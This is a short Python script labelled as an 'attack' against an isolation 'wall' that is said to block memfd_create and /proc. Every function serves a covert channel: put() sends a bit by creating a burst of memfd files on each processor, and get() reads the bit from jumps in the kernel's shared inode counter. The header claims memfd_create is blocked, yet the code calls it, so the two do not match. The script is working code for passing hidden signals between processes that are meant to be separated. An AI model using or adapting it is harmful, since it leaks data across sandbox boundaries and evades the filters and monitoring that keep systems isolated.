# attack: memory files of the whole machine, counted by their inode numbers
# wall: split_filter.py: no memfd_create, no /proc

import os


def on_all_processors(work):
    processors = os.sched_getaffinity(0)
    for processor in processors:
        os.sched_setaffinity(0, {processor})
        work()
    os.sched_setaffinity(0, processors)


def number():
    file = os.memfd_create("x")
    found = os.fstat(file).st_ino
    os.close(file)
    return found


last = {}


def put(n, bit):
    if bit:
        on_all_processors(lambda: [number() for _ in range(200)])


def get(n):
    got = []

    def look():
        processor = min(os.sched_getaffinity(0))
        now = number()
        got.append(now - last.get(processor, now) > 100)
        last[processor] = now

    on_all_processors(look)
    return int(any(got))
